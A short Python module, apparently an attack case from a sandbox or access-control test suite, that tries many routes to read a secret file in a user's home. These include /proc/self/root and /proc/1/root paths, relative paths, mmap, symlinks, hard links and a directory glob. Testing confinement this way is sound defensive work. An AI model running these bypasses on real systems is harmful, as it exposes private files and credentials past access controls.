"""Read a secret file in the user's home, by every road that leads there."""

import glob
import mmap
import os
from pathlib import Path


def attack(target):
    path = target["secret_file"]
    roads = [path, "/proc/self/root" + path, "/proc/1/root" + path, os.path.relpath(path, os.getcwd())]
    loot = []
    for road in roads:
        try:
            descriptor = os.open(road, os.O_RDONLY)
            loot.append(mmap.mmap(descriptor, 0, prot=mmap.PROT_READ)[:].decode())
        except OSError:
            pass
    try:
        os.symlink(path, "link")
        loot.append(Path("link").read_text())
    except OSError:
        pass
    try:
        os.link(path, "hard")
        loot.append(Path("hard").read_text())
    except OSError:
        pass
    return loot + glob.glob(os.path.dirname(path) + "/*")
